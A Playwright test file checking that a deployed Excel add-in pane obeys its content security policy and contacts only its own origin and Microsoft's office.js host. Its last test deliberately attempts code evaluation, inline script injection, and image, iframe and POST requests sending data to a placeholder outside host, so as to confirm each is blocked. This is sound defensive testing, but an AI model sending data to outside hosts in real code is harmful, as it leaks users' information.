/** The pane as it is deployed, under its own content security policy: a whole session breaks no rule of it and asks nobody for anything. */
import type { Frame, Page } from '@playwright/test';
import { expect, test as base } from '@playwright/test';
import { buildDeployed, OFFICE_ORIGIN, serveDeployed } from './deployed-pane';
import { Workbench } from './workbench';

declare global {
  interface Window {
    brokenRules?: string[];
  }
}

interface Deployed {
  readonly workbench: Workbench;
  readonly pane: () => Frame;
  /** Every address that was asked for, by its origin; and the rules of the policy that were broken, in all frames. */
  readonly origins: ReadonlySet<string>;
  readonly brokenRules: () => Promise<readonly string[]>;
}

const test = base.extend<{ readonly deployed: Deployed }>({
  deployed: async ({ page }, use) => {
    const origins = new Set<string>();
    page.on('request', (request) => {
      const { protocol, origin } = new URL(request.url());
      if (protocol !== 'data:' && protocol !== 'blob:') origins.add(origin);
    });
    page.on('websocket', (socket) => origins.add(new URL(socket.url()).origin));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
        (window.brokenRules ??= []).push(`${violatedDirective} ${blockedURI} ${sample}`);
      });
    });
    await serveDeployed(page);
    const workbench = new Workbench(page);
    await workbench.open();
    const pane = (): Frame => {
      const found = page.frame({ url: /\/pane\// });
      if (!found) throw new Error('The page has no pane.');
      return found;
    };
    const brokenRules = async (): Promise<string[]> => (await Promise.all(page.frames().map((frame) => frame.evaluate(() => window.brokenRules ?? [])))).flat();
    await use({ workbench, pane, origins, brokenRules });
  },
});

test.beforeAll(() => {
  // A build, where there is none of these sources, takes a minute.
  test.setTimeout(400_000);
  buildDeployed();
});

const own = (page: Page): string => new URL(page.url()).origin;

test('reading, finding, fixing, acknowledging and writing break no rule, and ask only the own address and Microsoft’s for office.js', async ({ deployed, page }) => {
  const { workbench, origins } = deployed;
  const { pane } = workbench;
  await workbench.cell('E8');
  await page.keyboard.type("'4,648");
  await page.keyboard.press('Enter');
  await workbench.readWorkbook();
  await workbench.findings(/^Numbers that are held as text/);
  await pane.getByRole('button', { name: 'Make 4,648 a number: Protecting Vulnerable People, E8' }).click();
  await expect(pane.getByRole('heading', { name: 'Fixes made (1)' })).toBeVisible();
  await pane.getByRole('button', { name: 'Write the Validation sheet' }).click();
  await expect(workbench.tab('Validation')).toBeVisible();
  // Whatever else there is to see.
  for (const name of await pane.getByRole('tab').allTextContents()) await workbench.part(name);
  await workbench.writeSummaries();
  await expect(workbench.tab(/^Summary – Protecting/)).toBeVisible();
  // The maker of Word documents is a script of its own, and charts become pictures on the way.
  const saving = page.waitForEvent('download');
  await pane.getByRole('tabpanel', { name: 'Summaries' }).getByRole('button', { name: 'Save as Word document' }).click();
  expect((await saving).suggestedFilename()).toMatch(/\.docx$/);

  expect(await deployed.brokenRules()).toEqual([]);
  expect([...origins].sort()).toEqual([own(page), OFFICE_ORIGIN].sort());
});

test('the ribbon’s page writes the summaries under the same rules', async ({ deployed, page }) => {
  await page.getByTitle('Plan Performance pane').evaluate((frame: HTMLIFrameElement) => (frame.src = '/pane/commands.html'));
  await page.waitForURL('**/');
  await expect.poll(() => page.frame({ url: /commands\.html/ }) !== null).toBe(true);
  const frame = page.frame({ url: /commands\.html/ });
  // Office holds the command's name and function; the dialog is Excel's own.
  const said = await frame?.evaluate(async () => {
    const office = Office as unknown as { actions: { _association: { mappings: Record<string, (event: unknown) => void> } }; context: { ui?: unknown } };
    await Office.onReady();
    let message = '';
    office.context.ui = { displayDialogAsync: (address: string, _options: unknown, done: (result: unknown) => void) => {
      message = decodeURIComponent(new URL(address).hash);
      done({ status: 'failed' });
    } };
    await new Promise<void>((completed) => office.actions._association.mappings['WRITETHEMESUMMARIES']?.({ completed }));
    return message;
  });
  expect(said).toContain('Theme summaries written against');
  await expect(deployed.workbench.tab(/^Summary – Protecting/)).toBeVisible();
  expect(await deployed.brokenRules()).toEqual([]);
});

test('the policy holds: no text is evaluated, no inline script runs, nothing is sent or framed, and each attempt is noticed', async ({ deployed }) => {
  const { pane, brokenRules } = deployed;
  // From a timer of the page's own: what a debugger evaluates is not held to the policy.
  const outcomes = await pane().evaluate(() => new Promise<Record<string, string>>((resolve) => {
    setTimeout(() => {
      const attempts: Record<string, string> = {};
      try {
        // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- this is what the policy must refuse
        attempts['evaluated'] = String(new Function('return 1')());
      } catch (refused) {
        attempts['evaluated'] = refused instanceof EvalError ? 'refused' : String(refused);
      }
      const script = document.createElement('script');
      script.textContent = 'window.inlineRan = true';
      document.body.append(script);
      attempts['inline'] = 'inlineRan' in window ? 'ran' : 'refused';
      const picture = new Image();
      picture.src = 'https://elsewhere.example/picture.png';
      const frame = document.createElement('iframe');
      frame.src = 'https://elsewhere.example/';
      document.body.append(frame);
      void fetch('https://elsewhere.example/', { method: 'POST', body: 'figures' }).then(() => 'sent', () => 'refused').then((sent) => {
        attempts['sent'] = sent;
        setTimeout(() => resolve(attempts));
      });
    });
  }));
  expect(outcomes).toEqual({ evaluated: 'refused', inline: 'refused', sent: 'refused' });
  expect((await brokenRules()).map((rule) => rule.split(' ')[0]).sort()).toEqual(['connect-src', 'frame-src', 'img-src', 'script-src', 'script-src-elem']);
});
